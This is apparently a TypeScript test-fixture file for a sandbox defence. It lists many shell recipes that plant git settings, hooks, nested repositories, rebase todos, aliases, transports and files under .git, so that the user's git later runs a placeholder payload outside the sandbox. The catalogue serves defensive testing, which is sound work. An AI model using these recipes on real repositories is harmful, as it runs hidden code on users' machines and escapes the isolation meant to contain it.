/** An attempt to make the user's git outside run a program. */
export interface Attack {
  /** What the user did before. */
  readonly given?: string;
  /** What the command does, with the functions of `openWatchedRepository`. */
  readonly plant: string;
  /** Folders that the editor opens as repositories. */
  readonly opened?: readonly string[];
  /** What the user does while the command waits for the file `done`, when the file `ready` exists. */
  readonly meanwhile?: string;
  /** What the user does afterwards. Default: `git status`. */
  readonly next?: string;
}

/** Makes a git directory by all means, names it in `x/.git`, and adds a gitlink. */
const repositoryAt = (path: string) =>
  `mkdir -p $(dirname ${path}); git clone -q --bare --template= . ${path}; git -c alias.x=init x -q --bare --template= ${path}; git config -f ${path}/config core.bare false; git config -f ${path}/config core.worktree ../../../x; git config -f ${path}/config core.fsmonitor "$PAYLOAD"; settings > ${path}/config; mkdir x; echo "gitdir: $PWD/${path}" > x/.git; git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),x`;

/** The user's git runs a program while the command still runs. */
export const whileRunning: Readonly<Record<string, Attack>> = {
  "a bare repository at the top instead": {
    plant:
      "cp -r .git/objects .git/refs .; evil config; git config -f config core.bare false; git config -f config core.worktree .; cp .git/HEAD HEAD; rm .git/HEAD; polled",
  },
  "a nested repository with a gitlink": {
    plant: "initial sub; git add sub; evil sub/.git/config; polled",
  },
  "a nested repository that the editor opens": {
    given: "mkdir sub; echo 1 > sub/file",
    plant: "initial sub; evil sub/.git/config; polled",
    opened: ["sub"],
  },
  "hooks in the work tree": {
    plant:
      "hook .husky post-index-change; git config core.hooksPath .husky; touch -d yesterday src/file; polled",
  },
  "included settings": {
    plant: "evil evil.ini; git config include.path ../evil.ini; polled",
  },
  "a filter's script in the work tree": {
    given:
      "mkdir tools; printf '#!/bin/sh\\ncat\\n' > tools/clean; chmod 755 tools/clean; git config filter.x.clean tools/clean; echo '*.x filter=x' > .gitattributes; echo 1 > a.x; git add -A; git commit -qm filter",
    plant: "printf '#!/bin/sh\\n%s\\ncat\\n' \"$PAYLOAD\" > tools/clean; echo 2 > a.x; polled",
  },
  "settings that the user has just replaced": {
    plant:
      'touch ready; until [ -e done ]; do sleep 0.02; done; evil .git/config; settings > c; mv c .git/config; git config core.fsmonitor "$PAYLOAD"; polled',
    meanwhile: "git config user.name Bob",
  },
  "a new repository of a submodule with a gitlink": {
    plant:
      "mkdir -p .git/modules; git clone -q --bare --template= . .git/modules/x; evil .git/modules/x/config; git config -f .git/modules/x/config core.worktree ../../../x; mkdir x; echo 'gitdir: ../.git/modules/x' > x/.git; git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),x; polled",
  },
  "a submodule named after a folder of git": {
    plant:
      'git clone -q --bare --template= . .git/modules/refs || { git init -q --bare --template= r; mkdir -p .git/modules; mv r .git/modules/refs; cp -r r .git/modules/refs; }; git --no-pager log -1 --format="[core]%nfsmonitor = \\"$PAYLOAD\\"%nworktree = ../../../x%n" --output=.git/modules/refs/config; git config -f .git/modules/refs/config core.fsmonitor "$PAYLOAD"; evil .git/modules/refs/config; git config -f .git/modules/refs/config core.worktree ../../../x; mkdir x; echo \'gitdir: ../.git/modules/refs\' > x/.git; git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),x; polled',
  },
  "a gitlink first and its repository later": {
    plant:
      "git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),sub; polled; initial made; evil made/.git/config; mv made sub; polled",
  },
  "a repository at the path of a submodule that was moved": {
    given:
      "git clone -q --bare . sub.git; git -c protocol.file.allow=always submodule --quiet add ./sub.git lib/deep/sub; git commit -qm sub",
    plant: "mv lib away; mkdir -p lib/deep; initial lib/deep/sub; evil lib/deep/sub/.git/config; polled",
  },
  "settings of a nested repository of the user": {
    given:
      "git init -q --template= sub; git -C sub commit -qm x --allow-empty; git add sub; git commit -qm sub",
    plant:
      'evil sub/.git/config; git -C sub config core.fsmonitor "$PAYLOAD"; mv sub/.git sub/g; cp -r sub/g sub/.git; evil sub/.git/config; polled',
  },
  "a link to another git directory": {
    plant: "initial sub; git add sub; mv sub/.git store; ln -s ../store sub/.git; evil store/config; polled",
  },
  "the repository moved away": {
    plant: "mv .git g; cp -r g .git; evil .git/config; polled",
  },
  "a bare repository at the top, with garbage in HEAD": {
    plant:
      "cp -r .git/objects .git/refs .; evil config; git config -f config core.bare false; git config -f config core.worktree .; cp .git/HEAD HEAD; echo garbage > .git/HEAD; git fast-export --export-marks=.git/HEAD HEAD~1 > /dev/null; polled",
  },
  "a repository among large files": {
    plant: `${repositoryAt(".git/lfs/e")}; polled`,
  },
  "a repository among refs": {
    plant: `${repositoryAt(".git/refs/heads/e")}; polled`,
  },
  "a repository among logs": {
    plant: `${repositoryAt(".git/logs/e")}; polled`,
  },
};

/** The user's git runs a program when the user works on. */
export const afterwards: Readonly<Record<string, Attack>> = {
  "the repository of a submodule that is not initialised": {
    given: "git clone -q --bare . remote.git",
    plant:
      "git clone -q --bare --template= . .git/modules/dep; printf '[core]\\n\\trepositoryformatversion = 0\\n' > .git/modules/dep/config; hook .git/modules/dep/hooks post-checkout; printf '[submodule \"dep\"]\\n\\tpath = dep\\n\\turl = ./remote.git\\n' > .gitmodules; git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),dep",
    next: "git -c protocol.file.allow=always submodule update --init",
  },
  "the strategy of an unfinished rebase": {
    plant:
      "git branch side HEAD~1; git checkout -q side; echo other > src/file; git commit -qam other; git rebase main; mkdir -p git-merge-z; printf '#!/bin/sh\\n%s\\n' \"$PAYLOAD\" > git-merge-z/x; chmod 755 git-merge-z/x; echo z/x > .git/rebase-merge/strategy; echo pick $(git rev-parse side) >> .git/rebase-merge/git-rebase-todo",
    next: "git checkout --theirs src/file; git add -A; GIT_EDITOR=true git rebase --continue",
  },
  "the options of an unfinished cherry-pick": {
    plant:
      "git checkout -q -b side HEAD~1; echo 1 > src/file; git commit -qam 1; echo 2 > src/file; git commit -qam 2; git checkout -q main; git cherry-pick side~1 side; mkdir -p git-merge-z; printf '#!/bin/sh\\n%s\\n' \"$PAYLOAD\" > git-merge-z/x; chmod 755 git-merge-z/x; printf '[options]\\n\\tstrategy = z/x\\n' > .git/sequencer/opts",
    next: "git add -A; GIT_EDITOR=true git cherry-pick --continue; GIT_EDITOR=true git cherry-pick --continue",
  },
  "an exec line in the todo": {
    plant:
      "GIT_SEQUENCE_EDITOR='sed -i 1ibreak' git rebase -q -i HEAD~1; echo \"exec $PAYLOAD\" >> .git/rebase-merge/git-rebase-todo",
    next: "git rebase --continue",
  },
  "an exec line by git itself": {
    plant: "GIT_SEQUENCE_EDITOR='sed -i 1ibreak' git rebase -q -i --exec \"$PAYLOAD\" HEAD~1",
    next: "git rebase --continue",
  },
  "a todo that is a link": {
    plant:
      "GIT_SEQUENCE_EDITOR='sed -i 1ibreak' git rebase -q -i HEAD~1; echo \"exec $PAYLOAD\" > todo; ln -sf ../../todo .git/rebase-merge/git-rebase-todo",
    next: "git rebase --continue",
  },
  "a remote that is a program": {
    plant:
      "printf '%s\\n' \"$PAYLOAD\" > p; git remote add evil 'ext::sh p'; git config protocol.ext.allow always",
    next: "git -c protocol.ext.allow=always fetch evil",
  },
  "an address that is a program": {
    given: "git clone -q --bare . remote.git; git remote add origin ./remote.git",
    plant:
      "printf '%s\\n' \"$PAYLOAD\" > p; git remote set-url origin 'ext::sh p'; git config protocol.ext.allow always",
    next: "git -c protocol.ext.allow=always fetch",
  },
  "an alias": { plant: 'git config alias.st "!$PAYLOAD"', next: "git st" },
  "an alias with the name of a typing error": {
    plant: 'git config help.autocorrect immediate; git config alias.stats "!$PAYLOAD"',
    next: "git stats; git sttaus",
  },
  "a diff program": { plant: 'git config diff.external "$PAYLOAD"; echo x >> src/file', next: "git diff" },
  "a program for the editor": {
    plant: 'git config core.editor "$PAYLOAD #"; git config sequence.editor "$PAYLOAD #"',
    next: "git commit --allow-empty; git rebase -i HEAD~1",
  },
  "a program for ssh": {
    plant:
      'git config core.sshCommand "$PAYLOAD #"; git config ssh.variant simple; git remote add s ssh://localhost/x',
    next: "git fetch s",
  },
  "a template with hooks": {
    plant:
      "hook t/hooks post-index-change; git init -q --template=t; GIT_TEMPLATE_DIR=t git init -q; git -c init.templateDir=t init -q; touch -d yesterday src/file",
  },
  "hooks of a new clone": {
    plant:
      "hook t/hooks post-checkout; git clone -q --template=t . copy; git -c core.hooksPath=t/hooks clone -q . other",
    next: "git -C copy checkout -q -b x; git -C other checkout -q -b x",
  },
  "settings of a work tree": {
    plant:
      'git config extensions.worktreeConfig true; git config --worktree core.fsmonitor "$PAYLOAD"; evil .git/config.worktree',
  },
  "settings of a linked work tree": {
    plant:
      'git worktree add -q tree; git config extensions.worktreeConfig true; git -C tree config --worktree core.fsmonitor "$PAYLOAD"; evil .git/worktrees/tree/config.worktree; polled',
    next: "git -C tree status",
  },
  "a linked work tree with another common directory": {
    plant:
      "git worktree add -q tree; git init -q --bare --template= x; cp -r .git/refs .git/objects x; evil x/config; echo ../../../x > .git/worktrees/tree/commondir",
    next: "git -C tree status",
  },
  "settings in capitals and in one line": {
    plant:
      'git config CORE.FsMonitor "$PAYLOAD"; printf \'[CORE] FSMonitor = "%s"\\n\' "$PAYLOAD" >> .git/config',
  },
  "settings by a section with another name": {
    plant:
      'git config x.fsmonitor "$PAYLOAD"; git config x.repositoryformatversion 0; git config --rename-section core old; git config --rename-section x core',
  },
  "settings by an editor": {
    plant: 'settings > evil.ini; GIT_EDITOR="cp evil.ini" git config --edit',
  },
  "excluded files that are settings": {
    plant:
      'git config --file .git/info/../config core.fsmonitor "$PAYLOAD"; GIT_CONFIG=.git/config git config core.fsmonitor "$PAYLOAD"',
  },
  "the hook of a repository to push to": {
    given: "git init -q --bare --template= remote.git",
    plant: "hook remote.git/hooks post-update; git -C remote.git config core.hooksPath hooks",
    next: "git push -q ./remote.git HEAD:refs/heads/x",
  },
  "a program for the packs of a remote": {
    given: "git clone -q --bare . remote.git; git remote add origin ./remote.git",
    plant:
      'git config remote.origin.uploadpack "$PAYLOAD"; git config remote.origin.receivepack "$PAYLOAD"; git config -f remote.git/config uploadpack.packObjectsHook "$PAYLOAD"',
    next: "git fetch; git push origin main:x",
  },
  "a submodule that updates by a program": {
    given:
      "git clone -q --bare . sub.git; git -c protocol.file.allow=always submodule --quiet add ./sub.git sub; git commit -qm sub",
    plant: 'git config submodule.sub.update "!$PAYLOAD"; git -C sub checkout -q HEAD~1',
    next: "git -c protocol.file.allow=always submodule update",
  },
  "programs for signatures and credentials": {
    plant:
      'git config gpg.program "$TOP/p"; git config commit.gpgSign true; git config credential.helper "!$PAYLOAD"; printf \'#!/bin/sh\\n%s\\n\' "$PAYLOAD" > p; chmod 755 p',
    next: "git commit -q --allow-empty -m x; echo url=https://example.invalid | git credential fill",
  },
  "a merge driver and a conversion": {
    plant:
      'git config merge.x.driver "$PAYLOAD"; git config diff.x.textconv "$PAYLOAD #"; git config filter.x.clean "$PAYLOAD"; echo \'* diff=x merge=x filter=x\' > .gitattributes; echo x >> src/file',
    next: "git diff; git status; git add -A",
  },
  "settings through a link of /proc": {
    plant: `cd .git; for p in /tmp/../proc/self/cwd /dev/../proc/self/cwd /proc/self/cwd ../.git/../.git /tmp/../proc/thread-self/cwd; do
        git -c alias.x=log x -1 --format="[core]%n fsmonitor = \\"$PAYLOAD\\"" --output=$p/config
        git -c alias.x=log x -1 --format="../evil" --output=$p/commondir
      done; mkdir -p ../evil; cp -r objects refs ../evil; cd ..; settings > evil/config; settings > .git/config`,
  },
  "a hook that is taken for a message": {
    given: "printf '#!/bin/sh\\n' > .git/hooks/applypatch-msg; chmod 755 .git/hooks/applypatch-msg",
    plant: `printf '#!/bin/sh\\nprintf "#!/bin/sh\\\\n%%s\\\\n" "$PAYLOAD" > "$1"\\n' > e; chmod 755 e; export PAYLOAD
      git -c alias.x=!./e x "$TOP/.git/hooks/applypatch-msg"; git -c alias.x=!./e x .git/hooks/applypatch-msg`,
    next: "git format-patch -q --stdout HEAD~1 > p; git reset -q --hard HEAD~1; git am p",
  },
  "a format of the lines of a rebase": {
    plant: `git config rebase.instructionFormat "%s%nexec $PAYLOAD"`,
    next: "git checkout -q -b side HEAD~1; git commit -q --allow-empty -m side; git checkout -q main; git rebase side",
  },
  "settings of a work tree by the name of their file": {
    plant: `git config -f .git/config.worktree core.fsmonitor "$PAYLOAD"; git config extensions.worktreeConfig true; git config core.repositoryformatversion 0`,
  },
};

/** Programs that git starts in the command itself. `EVIL` is a program that writes to .git by hand. */
export const started: Readonly<Record<string, string>> = {
  editor: "GIT_EDITOR=EVIL git commit --allow-empty",
  "an editor in settings": "git -c core.editor=EVIL commit --allow-empty",
  "an editor of todos": "GIT_SEQUENCE_EDITOR=EVIL git rebase -i HEAD~1; git rebase --abort",
  pager: `GIT_PAGER=EVIL script -qec "git log -1" /dev/null`,
  "an alias": "git -c alias.x='!EVIL' x",
  "an external diff": "GIT_EXTERNAL_DIFF=EVIL git diff HEAD~1",
  "a monitor of files": "git -c core.fsmonitor=EVIL status",
  "a hook": "git -c core.hooksPath=evil-hooks commit -q --allow-empty -m x",
  "a line of a rebase": "git rebase -q --exec EVIL HEAD~1",
  "a run of a bisect": `git bisect start HEAD HEAD~3; git bisect run EVIL; git bisect reset`,
  "a program for packs":
    "git fetch --upload-pack=EVIL ./.git; git push --receive-pack=EVIL ./.git main:y; git archive --remote=./.git --exec=EVIL HEAD",
  ssh: "GIT_SSH_COMMAND=EVIL git fetch ssh://localhost/x; GIT_SSH=EVIL git fetch ssh://localhost/x",
  "a transport": "git -c protocol.ext.allow=always ls-remote 'ext::EVIL'",
  "a program for signatures": "git -c gpg.program=EVIL commit -q --allow-empty -S -m x",
  "a program for credentials":
    "echo url=https://x.invalid | git -c credential.helper=EVIL credential fill; GIT_ASKPASS=EVIL git -c credential.helper= credential fill < /dev/null",
  "a diff tool": "git difftool -y -x EVIL side; git -c mergetool.x.cmd=EVIL mergetool --tool=x",
  "a page of matches": "git grep --open-files-in-pager=EVIL text",
  "a filter":
    "echo '*.f filter=f' > .gitattributes; echo 1 > 1.f; git -c filter.f.clean=EVIL add 1.f; git -c filter.f.process=EVIL add 1.f",
  "a text conversion": `echo '*.f diff=f' > .gitattributes; echo 1 > 2.f; git add 2.f; git -c diff.f.textconv=EVIL diff --cached`,
  "each submodule": `git submodule foreach EVIL`,
  "a filter of branches":
    "FILTER_BRANCH_SQUELCH_WARNING=1 git filter-branch -f --tree-filter EVIL HEAD~1..HEAD; rm -rf .git-rewrite",
  "another folder of git":
    'cp -r $(git --exec-path) own; rm -f own/git-x; cp $(command -v true) own/git-status; ln -s "$TOP/evil-hooks/post-commit" own/git-x; GIT_EXEC_PATH=$PWD/own git x; git --exec-path=$PWD/own x; rm -rf own',
  "another PATH":
    'mkdir bin; ln -s "$TOP/evil-hooks/post-commit" bin/git-y; PATH=$PWD/bin:$PATH git y; ln -s "$TOP/evil-hooks/post-commit" bin/git; PATH=$PWD/bin:$PATH git rebase -q --exec true HEAD~1; rm -rf bin',
  "a merge driver": `git -c merge.default=x -c merge.x.driver=EVIL merge --no-edit side; git merge --abort`,
  "a browser":
    "git -c browser.x.cmd=EVIL web--browse -b x y; git -c man.viewer=x -c man.x.cmd=EVIL help -m status",
  "a program in the background": "(sleep 0.3; EVIL) & git commit -q --allow-empty -m x; wait",
};

/** Files that git writes where its options say. OUT is a path in `.git` that git would obey. */
export const written: Readonly<Record<string, string>> = {
  "a diff": "git diff --output=OUT HEAD~1",
  "a log in a format": 'git log -1 --format="#!/bin/sh%n$PAYLOAD" --output=OUT',
  "an archive": "git archive -o OUT HEAD",
  "a bundle": "git bundle create OUT HEAD",
  "a patch": "git format-patch -q --stdout HEAD~1 > OUT; git format-patch -q -o OUT.d HEAD~1",
  marks:
    "git fast-export --export-marks=OUT HEAD > /dev/null; git fast-import --export-marks=OUT < /dev/null",
  "a trace":
    "GIT_TRACE=$PWD/OUT git status; GIT_TRACE2=$PWD/OUT git status; GIT_TRACE2_EVENT=$PWD/OUT git status; GIT_TRACE_PACKET=$PWD/OUT git ls-remote .",
  "a trace in settings":
    "git -c trace2.normalTarget=$PWD/OUT status; git -c trace2.eventTarget=$PWD/OUT status",
  "a file of settings":
    'git config -f OUT core.fsmonitor "$PAYLOAD"; git config --file=OUT --add core.fsmonitor x',
  credentials: "printf 'url=https://a:b@c\\n' | git credential-store --file=OUT store",
  "a report": "git bugreport -o OUT.d -s x < /dev/null",
  mails: "git mailsplit -oOUT.d < /dev/null; git mailinfo OUT OUT.p < /dev/null",
  "another work tree":
    "git --work-tree=.git checkout planted -- hooks commondir config; git --work-tree=.git reset -q --hard planted; git -c core.worktree=$PWD/.git checkout -f planted -- .; GIT_WORK_TREE=.git git checkout planted -- .",
  "an index elsewhere":
    "git read-tree --index-output=OUT HEAD; GIT_INDEX_FILE=OUT git read-tree HEAD; git checkout-index -a --prefix=.git/hooks/",
  "a patch outside":
    "git apply --unsafe-paths --directory=.git patch-of-hooks; git apply --directory=.git patch-of-hooks",
  "a clone":
    "git clone -q --bare . OUT; git init -q OUT; git init -q --separate-git-dir=OUT.d x; git worktree add -f OUT.t; git worktree prune",
  "a move": "git mv -f src/file OUT; git mv -k src .git/hooks",
  "a submodule":
    "git -c protocol.file.allow=always submodule add -q --name ../../hooks/x ./ s; git -c protocol.file.allow=always submodule add -q . .git/hooks/s",
  "objects elsewhere":
    "GIT_OBJECT_DIRECTORY=.git/hooks git hash-object -w src/file; GIT_COMMON_DIR=$PWD/.git/hooks git status",
  "a notes or branch name":
    "git update-ref refs/../hooks/post-commit HEAD; git symbolic-ref HEAD refs/heads/../../hooks/x; git branch ../hooks/x; git pack-refs --all",
};
